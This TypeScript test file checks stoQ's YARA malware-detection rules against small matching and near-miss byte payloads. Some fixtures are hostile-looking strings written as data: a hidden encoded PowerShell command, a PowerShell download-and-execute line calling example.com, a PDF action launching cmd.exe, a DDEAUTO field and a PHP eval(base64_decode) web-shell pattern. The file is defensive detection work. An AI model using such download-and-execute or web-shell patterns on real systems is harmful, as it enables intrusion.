import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { compileRuleFiles } from 'stoq'

const rulesFile = fileURLToPath(new URL('rules/stoq.yar', import.meta.url))
const wasm = await compileRuleFiles([rulesFile], 'wasm')
/** The native engine, where this platform has it. */
const rules = await compileRuleFiles([rulesFile], 'auto')
const tested = new Set<string>()

type Bytes = string | Uint8Array
const latin1 = (text: string) => Buffer.from(text, 'latin1')
const hex = (digits: string) => Buffer.from(digits.replaceAll(' ', ''), 'hex')
const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const join = (...parts: Bytes[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? latin1(part) : part)))

/** The rules that hit, the same in both engines. */
function hits(payload: Uint8Array): string[] {
  const matches = rules.scan(payload)
  assert.deepEqual(wasm.scan(payload), matches)
  return matches.map(match => match.rule)
}

/** One rule: a payload that it hits and one, much alike, that it does not. */
function ruleHits(rule: string, yes: Bytes, no: Bytes): void {
  tested.add(rule)
  test(`${rule} hits what it is for and not what is alike`, () => {
    assert.ok(hits(join(yes)).includes(rule))
    assert.ok(!hits(join(no)).includes(rule))
  })
}

function program(...content: Bytes[]): Buffer {
  const header = Buffer.alloc(0x88)
  header.write('MZ')
  header.writeUInt32LE(0x80, 0x3c)
  header.write('PE\0\0', 0x80)
  return join(header, ...content)
}

test('the rules compile, and each has an author, a description and a tag', () => {
  assert.deepEqual([...rules.faults, ...wasm.faults], [])
  for (const { meta, tags } of rules.scan(program('This program cannot be run in DOS mode. UPX!UPX0'))) {
    assert.equal(meta['author'], 'stoQ')
    assert.match(String(meta['description']), /^[A-Z].{10,80}$/)
    assert.ok(tags.length > 0)
  }
})

test('each rule has a test', () => {
  const files = ['executables.yar', 'documents.yar', 'scripts.yar']
  const texts = files.map(file => readFileSync(new URL(`rules/${file}`, import.meta.url), 'utf8'))
  const names = texts.flatMap(text => [...text.matchAll(/^rule (\w+)/gm)].map(match => match[1]))
  assert.deepEqual([...tested].sort(), names.sort())
})

ruleHits('pe_file', program(), program().subarray(1))
ruleHits('dotnet_file', program('_CorExeMain\0mscoree.dll\0'), '_CorExeMain\0mscoree.dll\0')
ruleHits('elf_file', hex('7F454C46 02 01 01'), hex('7F454C46 03 01 01'))
ruleHits('macho_file', hex('CFFAEDFE 07000001'), hex('CAFEBABE 00000034'))
ruleHits('upx_packed', program('UPX0....UPX!'), program('UPX!'))
ruleHits('nsis_installer', program(hex('EFBEADDE'), 'NullsoftInst'), program('NullsoftInst'))
ruleHits('autoit_compiled', program(hex('A3484BBE986C4AA9994C530A86D6487D')), program('AU3!'))
ruleHits('pyinstaller_program', program(hex('4D45490C0B0A0B0E')), hex('4D45490C0B0A0B0E'))

const stub = 'This program cannot be run in DOS mode'
ruleHits('embedded_pe', join('a document with ', program(stub)), program(stub))
test('embedded_pe hits a program in a program', () => {
  assert.ok(hits(program(stub, program(stub))).includes('embedded_pe'))
})
ruleHits(
  'encoded_pe',
  program(stub).toString('base64'),
  program('This program is harmless').toString('base64'),
)
test('encoded_pe hits base64 at any place and hexadecimal text', () => {
  for (const shift of ['', 'x', 'xx'])
    assert.ok(hits(latin1(join(shift, program(stub)).toString('base64'))).includes('encoded_pe'))
  assert.ok(hits(latin1(program(stub).toString('hex').toUpperCase())).includes('encoded_pe'))
})

const pdf = (text: string) => `%PDF-1.7\n1 0 obj << ${text} >> endobj`
ruleHits('pdf_javascript', pdf('/S /JavaScript /JS (app.alert(1))'), pdf('/Title (JavaScript) /JSONLike 1'))
ruleHits('pdf_open_action', pdf('/OpenAction 2 0 R'), pdf('/AAPL (x)'))
ruleHits('pdf_launch', pdf('/Launch /F (cmd.exe)'), '/Launch /F (cmd.exe)')
ruleHits('pdf_embedded_file', pdf('/Type /EmbeddedFile'), pdf('/Type /Catalog'))

const ole = (...content: Bytes[]) => join(hex('D0CF11E0A1B11AE1'), Buffer.alloc(504), ...content)
ruleHits('office_macro', ole(utf16('_VBA_PROJECT')), ole('_VBA_PROJECT'))
ruleHits(
  'office_auto_macro',
  ole(utf16('_VBA_PROJECT'), 'Sub autoopen()'),
  ole(utf16('_VBA_PROJECT'), 'Sub Helper()'),
)
ruleHits('office_dde', '{\\rtf1 {\\field DDEAUTO c:\\\\windows}}', 'add-in, DDE is not used')
ruleHits('ole_package', ole(utf16('\x01Ole10Native')), ole(utf16('WordDocument')))
ruleHits('rtf_object', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}', '{\\rtf1 objdata}')
ruleHits('equation_editor', ole(hex('02CE020000000000C000000000000046')), 'see Equation.3 in the paper')
ruleHits(
  'onenote_embedded_file',
  join(hex('E4525C7B8CD8A74DAEB15378D02996D3'), hex('E716E3BD65261145A4C48D4D0B7A9EAC')),
  hex('E716E3BD65261145A4C48D4D0B7A9EAC'),
)

const lnk = (...content: Bytes[]) => join(hex('4C0000000114020000000000C000000000000046'), ...content)
ruleHits('lnk_command', lnk(utf16('C:\\Windows\\PowerShell.exe')), lnk(utf16('C:\\Windows\\notepad.exe')))
ruleHits('html_application', '<HTA:APPLICATION id="a">', '<html><b>hta: application</b>')
const command = Buffer.from(utf16('Write-Output hello')).toString('base64')
ruleHits(
  'powershell_encoded',
  `powershell.exe -NoP -w hidden -enc ${command}`,
  'powershell.exe -File encode.ps1 -e utf8',
)
ruleHits(
  'powershell_download',
  "IEX (New-Object Net.WebClient).DownloadString('http://example.com')",
  'Invoke-WebRequest http://example.com -OutFile a.txt',
)
ruleHits(
  'windows_script_dropper',
  'CreateObject("WScript.Shell"): CreateObject("ADODB.Stream")',
  'CreateObject("WScript.Shell")',
)
ruleHits('javascript_unpacking', 'eval(unescape("%61%6c"))', 'if (medieval(x)) unescape("%61")')
ruleHits('php_eval', '<?php @eval(base64_decode($x)); ?>', '<?php echo base64_decode($x); ?>')
